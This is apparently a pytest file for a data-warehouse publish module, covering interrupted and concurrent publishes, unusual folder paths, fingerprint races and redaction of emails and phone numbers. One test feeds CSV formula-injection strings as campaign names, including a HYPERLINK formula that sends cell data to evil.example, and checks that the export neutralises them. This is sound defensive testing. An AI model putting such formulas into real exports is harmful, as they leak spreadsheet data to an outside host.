"""publish.publish_month on a small warehouse: what readers and BI tools see when a publish is interrupted,
runs beside another, or writes to an unusual folder."""

from __future__ import annotations

import json

import duckdb
from test_publish_versions import project  # noqa: F401  (the small warehouse fixture)

from socialroi.publish import publish_month


def _bi(s, sql: str) -> list[tuple]:
    con = duckdb.connect(str(s.publish / "socialroi.duckdb"), read_only=True)
    try:
        return con.execute(sql).fetchall()
    finally:
        con.close()


def test_a_link_left_by_a_stopped_publish_is_no_month_of_the_bi_database(project):  # noqa: F811
    """A publish stopped between making its new link and renaming it over the month's left `.2026-06.link`
    (a concurrent publish of another month sees the same for a moment): the BI database counted it as a
    month of its own, June's rows twice."""
    s = project
    publish_month(s, "2026-06")
    (s.publish / ".2026-06.link").symlink_to(".versions/2026-06/v0001")
    publish_month(s, "2026-07")
    assert _bi(s, "select month, version from published_versions order by 1") == [
        ("2026-06", "v0001"), ("2026-07", "v0001")]
    assert _bi(s, "select month, sum(net_sales_reporting) from mart_net_sales_monthly group by 1 order by 1") == [
        ("2026-06", 150), ("2026-07", 150)]
    # and the next publish of June still switches cleanly
    con = duckdb.connect(str(s.warehouse))
    con.execute("update marts.mart_net_sales_monthly set orders = 4 where month = '2026-06'")
    con.close()
    assert publish_month(s, "2026-06", reason="late order")["version"] == 2
    assert not (s.publish / ".2026-06.link").exists()
    assert json.loads((s.publish / "2026-06" / "manifest.json").read_text())["version"] == 2


def test_a_publish_folder_with_spaces_an_apostrophe_unicode_and_brackets(project, monkeypatch):  # noqa: F811
    """The publish folder's path is quoted in DuckDB's SQL: "Finance's reports [shared]/Été 2026" broke it."""
    from socialroi import settings as _settings
    from socialroi.cli import main

    odd = project.publish.parent / "Finance's reports [shared]" / "Été 2026"
    odd.mkdir(parents=True)
    monkeypatch.setenv("SOCIALROI_PUBLISH", str(odd))
    s = _settings.load()
    assert publish_month(s, "2026-06")["version"] == 1
    con = duckdb.connect(str(s.warehouse))
    con.execute("update marts.mart_net_sales_monthly set net_sales_reporting = 170.00 where month = '2026-06'")
    con.execute("update marts.mart_attribution_channel_monthly set attributed_revenue = attributed_revenue + 20 "
                "where month = '2026-06' and channel_group = 'Direct'")
    con.close()
    assert publish_month(s, "2026-06", reason="late order")["version"] == 2  # a restatement reads the old version
    restatement = json.loads((odd / "2026-06" / "restatement.json").read_text())
    assert {"table": "mart_net_sales_monthly", "column": "net_sales_reporting", "before": "150.00",
            "after": "170.00", "change": "20.00"} in restatement["changes"]
    assert "Net sales: 170.00" in (odd / "2026-06" / "report.md").read_text()
    assert _bi(s, "select month, sum(net_sales_reporting) from mart_net_sales_monthly group by 1") == [
        ("2026-06", 170)]
    assert main(["report", "--month", "2026-06"]) == 0


def test_a_csv_cell_that_excel_would_run_as_a_formula_is_published_as_text(project):  # noqa: F811
    """A campaign named "=HYPERLINK(...)" (or "+…", "-…", "@…") ran as a formula when finance opened the CSV in
    Excel. Its CSV cell starts with an apostrophe; amounts (-20.00) stay numbers; Parquet keeps the name as it is."""
    s = project
    con = duckdb.connect(str(s.warehouse))
    names = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+SUM(1+1)", "-2+3", "@SUM(A1)", "\tx",
             "summer sale"]
    for name in names:
        con.execute("insert into marts.mart_attribution_campaign_monthly values "
                    "('2026-06', 'last_touch', 'Paid Social', 'meta', ?, -20.00, 0.00)", [name])
    con.close()
    publish_month(s, "2026-06")
    folder = s.publish / "2026-06"
    rows = duckdb.execute(f"select campaign_key, attributed_revenue from read_csv('{folder}/"
                          "mart_attribution_campaign_monthly.csv', all_varchar = true) order by 1").fetchall()
    assert sorted(c for c, _ in rows) == sorted(["'" + n if n[0] in "=+-@\t" else n for n in names])
    assert {v for _, v in rows} == {"-20.00"}
    parquet = duckdb.execute(f"select campaign_key from '{folder}/mart_attribution_campaign_monthly.parquet'")
    assert sorted(r[0] for r in parquet.fetchall()) == sorted(names)
    assert sorted(r[0] for r in _bi(s, "select campaign_key from mart_attribution_campaign_monthly")) == sorted(names)


def test_two_months_published_at_once_leave_a_bi_database_of_both(project, monkeypatch):  # noqa: F811
    """June's publish listed the published versions for the BI database, then July's publish ran whole; June's
    database, renamed last, lacked July's version (and two publishes of one month took the same number)."""
    import threading

    from socialroi import publish

    s = project
    listed, july_done = threading.Event(), threading.Event()
    real = publish._published_dirs

    def slow_for_june(settings):
        out = real(settings)
        if threading.current_thread().name == "june" and not listed.is_set():
            listed.set()
            july_done.wait(5)  # July's publish runs now, if nothing keeps it waiting
        return out

    monkeypatch.setattr(publish, "_published_dirs", slow_for_june)
    errors = []

    def run(month):
        try:
            publish_month(s, month)
        except BaseException as exc:  # noqa: BLE001
            errors.append(exc)

    june = threading.Thread(target=run, args=("2026-06",), name="june")
    june.start()
    assert listed.wait(10)
    july = threading.Thread(target=run, args=("2026-07",), name="july")
    july.start()
    july.join(2)  # done, or waiting for June's publish to end
    july_done.set()
    june.join(20)
    july.join(20)
    assert not errors
    assert _bi(s, "select month, version from published_versions order by 1") == [
        ("2026-06", "v0001"), ("2026-07", "v0001")]


def test_marts_rebuilt_between_the_fingerprint_check_and_the_export_are_not_published(project, monkeypatch):  # noqa: F811
    """publish compared the gate's fingerprint in a connection of its own, closed it, then opened another to
    export: a build in between published numbers nobody validated. The check and the export share one
    read-only connection now (no writer can get in while it is open)."""
    import pytest

    from socialroi import gate, warehouse
    from socialroi.publish import PublishRefused

    s = project
    path = s.state / "gate" / "2026-06.json"
    path.write_text(json.dumps({"success": True, "checks": 1, "data_fingerprint": gate.data_fingerprint(s, "2026-06")}))
    real = warehouse.connect

    def a_build_gets_in_first(settings, read_only=False, **kw):
        if read_only:
            con = duckdb.connect(str(settings.warehouse))
            con.execute("update marts.mart_net_sales_monthly set net_sales_reporting = 999.00 where month = '2026-06'")
            con.close()
            monkeypatch.setattr(warehouse, "connect", real)
        return real(settings, read_only=read_only, **kw)

    monkeypatch.setattr(warehouse, "connect", a_build_gets_in_first)
    with pytest.raises(PublishRefused, match="changed since they were validated"):
        publish_month(s, "2026-06")
    assert not (s.publish / "2026-06").exists()


def test_the_manifest_names_no_email_or_phone_of_an_input_files_name(project):  # noqa: F811
    """A file landed as "orders for jane.doe@example.com.csv" or "call 415-555-0130.csv": the manifest's inputs
    (and a restatement's inputs_added) quoted its name whole; the sha256 still identifies it."""
    s = project
    con = duckdb.connect(str(s.warehouse))
    for name, sha in (("generic/orders/orders for jane.doe@example.com.csv", "cc"),
                      ("generic/sessions/call 415-555-0130.csv", "dd")):
        con.execute("insert into ingest.file_ledger values (?, ?, 'loaded', date '2026-06-01', date '2026-06-30', "
                    "timestamp '2026-08-02 00:00:00')", [name, sha])
    con.close()
    publish_month(s, "2026-06")
    text = (s.publish / "2026-06" / "manifest.json").read_text()
    assert "jane" not in text and "415" not in text
    inputs = json.loads(text)["inputs"]
    assert {f["sha256"] for f in inputs} == {"aa", "cc", "dd"}
    assert "generic/sessions/call redacted-phone.csv" in {f["file"] for f in inputs}
